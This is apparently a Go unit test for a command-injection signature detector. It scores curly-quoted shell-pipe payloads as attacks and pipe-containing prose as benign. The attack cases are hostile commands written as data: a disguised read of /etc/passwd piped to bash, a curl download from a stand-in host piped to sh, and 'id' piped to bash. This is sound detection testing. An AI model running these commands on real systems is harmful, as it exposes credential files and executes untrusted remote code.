package signature_test

import "testing"

// TestCmdiPipeAfterCurlyQuote: a script piped to a shell after a command
// whose argument a word processor's curly quotes close (gotestwaf's
// "sed ‘s/example/pass/g’ | bash"). Prose with a pipe that feeds no
// shell, or a shell named mid-sentence, is not the shape.
func TestCmdiPipeAfterCurlyQuote(t *testing.T) {
	attacks := []familyCase{
		{"q", "ec’h’o ‘cat /etc/examplewd’ | sed ‘s/example/pass/g’ | bash", 0.99},
		{"q", "curl http://x.example/i.sh -o “i.sh” | sh", 0.99},
		{"q", "echo ‘id’ | bash", 0.99},
	}
	benign := []familyCase{
		{"q", "the café | menu | prices", 0},
		{"q", "quote the ‘bash’ part | then the rest", 0},
		{"q", "we piped it through ‘sed’ | bash scripts came later", 0},
	}
	checkFamily(t, "cmdi", attacks, benign, 0.9)
}
